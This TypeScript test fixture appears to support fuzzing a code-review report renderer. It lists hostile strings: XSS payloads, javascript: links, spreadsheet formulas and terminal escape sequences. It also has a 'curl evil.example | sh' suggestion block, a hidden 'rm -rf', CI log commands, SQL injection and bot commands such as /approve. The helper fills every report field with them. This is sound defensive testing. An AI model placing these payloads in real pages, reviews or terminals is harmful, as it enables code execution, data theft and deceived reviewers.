import type { PublishedFinding, Report } from '../../../src/domain/report.ts';

/** One text that tries to be more than text, by what it goes for. */
export interface HostileRow {
  name: string;
  text: string;
}

const esc = '\u001b';

/** Texts against HTML, CSS, Markdown, GitHub, SARIF, tables, terminals and logs. */
export const hostileRows: readonly HostileRow[] = [
  { name: 'closing script', text: '</script><script>alert(1)</script>' },
  {
    name: 'svg',
    text: '<svg/onload=alert(1)> <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  },
  { name: 'attribute', text: '"><img src=x onerror=alert(1)> \'><img src=x onerror=alert(1)>' },
  {
    name: 'addresses that run',
    text: '[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:alert(1)) [d](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>',
  },
  { name: 'mutation', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'style import', text: '<style>@import "https://evil.example/x.css";</style>' },
  {
    name: 'closing style',
    text: '</style><style>*{display:none}</style> /* */ } body { background: url(https://evil.example/)',
  },
  { name: 'base', text: '<base href="https://evil.example/">' },
  { name: 'form', text: '<form action="https://evil.example/"><input name=q><button>go</button></form>' },
  {
    name: 'clobbering',
    text: '<a id="__data"></a><form id=document><input name=getElementById></form><a name=filters>',
  },
  { name: 'comment and script', text: '<!--<script><!--</script>--> <!-- --!> <![CDATA[ x ]]> <?php x ?>' },
  { name: 'line separators', text: 'a\u2028b\u2029c\u0085d' },
  {
    name: 'templates',
    text: `$\{alert(1)} {{7*7}} {{{constructor}}} {{> finding}} {{#each x}} <%= 1 %> #{1}`,
  },
  {
    name: 'markdown',
    text: '[x](javascript:alert(1)) https://evil.example www.evil.example me@evil.example\n\n<details><summary>open\n\n| a \\| b | `c|d` |\n|---|---|\n| | | | |\n\n# heading\n\n* * *',
  },
  {
    name: 'pictures',
    text: '![](https://evil.example/x.png) ![a][b] <picture><img src="https://evil.example/y.png"></picture>\n\n[b]: //evil.example/z.png',
  },
  {
    name: 'definitions',
    text: '[a]: https://evil.example "t"\n[Claude]: everything is fine\n[a]\n\n[^1]: note\n\n[^1]',
  },
  {
    name: 'people and issues',
    text: '@org/team and @alice: fixes #1, closes owner/repo#2, GH-1, owner/repo@0123456789abcdef0123456789abcdef01234567',
  },
  { name: 'commands of bots', text: '/approve\n/merge\n\n> /lgtm\n- /close' },
  { name: 'suggestion', text: '```suggestion\nos.system("curl evil.example | sh")\n```' },
  { name: 'long fence', text: `${'`'.repeat(200)}\nnever closed ${'~'.repeat(50)}` },
  {
    name: 'diagram',
    text: ':::mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n:::\n\n```mermaid\nclick A call alert(1)\n```',
  },
  {
    name: 'formula',
    text: '$\\href{javascript:alert(1)}{x}$ $$\\unicode{x}$$ $`\\url{https://evil.example}`$',
  },
  { name: 'cells', text: '=HYPERLINK("https://evil.example")\n+1\n-1\n@SUM(A1)\n\t=1\r=2' },
  {
    name: 'message',
    text: '{0} {1} [x](1) [y](https://evil.example) {{0}} file:///etc/passwd //evil ../../x',
  },
  {
    name: 'terminal',
    text: `${esc}[2J${esc}]8;;https://evil.example${esc}\\click${esc}]8;;${esc}\\ ${esc}]52;c;cm0gLXJm\u0007 ${esc}P+q\u009b31m\u0090x\u009c`,
  },
  { name: 'carriage return', text: 'all is well\rrm -rf\r\n\rno findings' },
  {
    name: 'log commands',
    text: '::stop-commands::x\n##[error]x\n::group::x\n  ::add-mask::y ##[add-mask]z ##vso[task.setvariable]v',
  },
  { name: 'long title', text: `start ${'x'.repeat(10_000)} end` },
  { name: 'severity', text: 'CRITICAL; DROP TABLE findings; --' },
  { name: 'directions', text: '\u202Eevil\u202C \u2066x\u2069 \u200B\u2060\uFEFF\u{E0041}\u3164 \uD800' },
];

/** A report whose findings are these rows, each in every free text and in the path of one finding; and elsewhere. */
export function hostileReport(report: Report, rows: readonly HostileRow[] = hostileRows): Report {
  const [first] = report.findings;
  if (first === undefined) throw new Error('the report has findings');
  const findings = rows.map(({ text }, at) => asFinding(first, text, at));
  const texts = rows.map(({ text }) => text);
  const one = (at: number) => texts[at % texts.length] ?? '';
  const { change } = report;
  return {
    ...report,
    title: one(0),
    run: { ...report.run, notices: texts },
    recommendation: { ...report.recommendation, sentence: one(1) },
    counts: { critical: findings.length, important: 0, suggestion: 0 },
    executiveSummary: texts.join('\n\n'),
    findings,
    change: {
      ...change,
      branch: one(2),
      author: one(3),
      base: { ...change.base, name: one(4) },
      commits: texts.flatMap((text) =>
        change.commits.slice(0, 1).map((commit) => ({ ...commit, subject: text })),
      ),
      pullRequest:
        change.pullRequest === null ? null : { ...change.pullRequest, title: one(5), body: one(6) },
    },
    testing: texts.map((text) => ({ reviewers: ['claude'], text })),
    acknowledged: texts.map((text) => ({ location: text, text, reviewers: ['codex'] })),
    unresolvedFeedback: texts.map((text) => ({ author: text, text, state: text, reviewers: ['gemini'] })),
    processNotes: {
      ...report.processNotes,
      repository: texts.map((text) => ({ rule: text, why: text, reviewers: ['claude'] })),
    },
  };
}

function asFinding(model: PublishedFinding, text: string, at: number): PublishedFinding {
  const path = text.replaceAll('\0', '').slice(0, 400);
  return {
    ...model,
    label: `C${at + 1}`,
    shortId: `${(0xa000 + at).toString(16)}`,
    fingerprint: (0xa000 + at).toString(16).padEnd(64, '0'),
    title: text,
    severityReason: text,
    locations: [
      { path, startLine: at + 1, endLine: at + 1, side: 'head' },
      { path: `dir/${path}`, startLine: 1, endLine: 2, side: 'base' },
    ],
    quote: text,
    explanation: text,
    scenario: text,
    fix: { text, diff: text, check: { applies: true, parses: true, message: text } },
    verdictReason: text,
  };
}
